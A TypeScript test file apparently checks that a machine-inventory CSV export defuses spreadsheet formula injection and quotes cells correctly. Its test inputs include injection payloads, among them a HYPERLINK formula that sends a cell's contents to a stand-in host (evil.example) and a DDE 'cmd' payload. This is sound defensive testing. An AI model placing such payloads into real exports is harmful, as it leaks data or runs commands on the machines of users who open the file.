import type { GraphQLObjectType } from 'graphql';
import { describe, expect, it } from 'vitest';
import { columnsOf, csvLine, defused } from '../../../src/graphql/exports/csv.ts';
import { readFields } from '../../../src/graphql/exports/export-fields.ts';
import { createSubgraphSchema } from '../../../src/graphql/subgraph.ts';
import { readMachine } from '../../../src/machines/machine-row.ts';

const type = createSubgraphSchema().getType('Machine') as GraphQLObjectType;

/** A line of a table as a reader takes it apart by RFC 4180. */
function cellsOf(line: string): string[] {
  const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?=,|\r\n$)/g)];
  return cells.map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain);
}

const rowOf = (fields: string, raw: object): string => {
  const machine = readMachine({ id: 'a', ...raw }, () => undefined);
  if (machine === undefined) throw new Error('There is no machine.');
  return csvLine(columnsOf(readFields(fields, type)).map(({ cell }) => cell(machine)));
};

describe('a text in a table', () => {
  it.each([
    [
      '=HYPERLINK("https://evil.example/?"&A1,"web-01")',
      '\'=HYPERLINK("https://evil.example/?"&A1,"web-01")',
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\rweb', "'\rweb"],
    ['\nweb', "'\nweb"],
    ['  =1', "'  =1"],
    ['＝1', "'＝1"],
    ['web;=1', "web;'=1"],
    ['web\t@x', "web\t'@x"],
    ['web\n-1', "web\n'-1"],
  ])('is never a formula: %j', (text, harmless) => {
    expect(defused(text)).toBe(harmless);
    expect(cellsOf(rowOf('computerDnsName,id', { computerDnsName: text }))).toEqual([harmless, 'a']);
  });

  it.each(['web-01.corp', 'a=b', 'a+b@c', 'Straße', '10.0.0.1', 'fe80::1', ''])(
    'stays as it is: %j',
    (text) => {
      expect(defused(text)).toBe(text);
    },
  );

  it('is quoted where it holds a quote, a separator or an end of line', () => {
    for (const text of ['a,b', 'a"b', '"', 'a\r\nb', 'a;b', 'a\tb', ',']) {
      const line = csvLine([text, 'x']);
      expect(cellsOf(line)).toEqual([text, 'x']);
      expect(line.startsWith('"')).toBe(true);
    }
    expect(csvLine(['a', '', 'b'])).toBe('a,,b\r\n');
  });
});

describe('the columns of a machine', () => {
  it('are named as fields are, those of objects by dots', () => {
    const names = (fields: string) => columnsOf(readFields(fields, type)).map(({ name }) => name);
    expect(names('id,vmMetadata')).toEqual([
      'id',
      'vmMetadata.vmId',
      'vmMetadata.cloudProvider',
      'vmMetadata.resourceId',
      'vmMetadata.subscriptionId',
    ]);
    expect(names('ipAddresses.type,id,ipAddresses.ipAddress')).toEqual([
      'ipAddresses.type',
      'ipAddresses.ipAddress',
      'id',
    ]);
  });

  it('join lists, in which a missing value keeps its place', () => {
    const ipAddresses = [
      { ipAddress: '10.0.0.1', macAddress: null, type: 'Ethernet' },
      { ipAddress: '::1', macAddress: '0A', type: null },
    ];
    const line = rowOf('ipAddresses.ipAddress,ipAddresses.macAddress,ipAddresses.type', { ipAddresses });
    expect(line).toBe('10.0.0.1 | ::1, | 0A,Ethernet | \r\n');
  });

  it('hold formulas of no element of a list', () => {
    expect(rowOf('machineTags', { machineTags: ['ok', '=1', '-x'] })).toBe("ok | '=1 | '-x\r\n");
  });

  it('are empty for null and for empty lists, and plain for numbers and flags', () => {
    const fields = 'osBuild,rbacGroupId,isAadJoined,computerDnsName,machineTags,vmMetadata.vmId';
    const raw = { osBuild: 22_631, rbacGroupId: -5, isAadJoined: false };
    expect(rowOf(fields, raw)).toBe('22631,-5,false,,,\r\n');
  });
});
